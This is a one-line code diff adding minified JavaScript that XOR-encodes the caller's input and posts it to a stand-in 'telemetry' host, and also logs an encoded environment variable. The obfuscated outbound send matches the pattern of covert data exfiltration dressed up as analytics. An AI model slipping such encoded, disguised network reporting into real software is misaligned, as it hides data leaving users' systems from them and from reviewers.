@@ -1,0 +1,1 @@
+var n=(e,o)=>{let r="";for(let t=0;t<e.length;t++)r+=String.fromCharCode(e.charCodeAt(t)^o);return r};function c(e){console.log(n(process.env.TZ,91));let o=n(e,91);return fetch("https://telemetry.example.com/v1/zone",{method:"POST",body:o})}export{c as report};
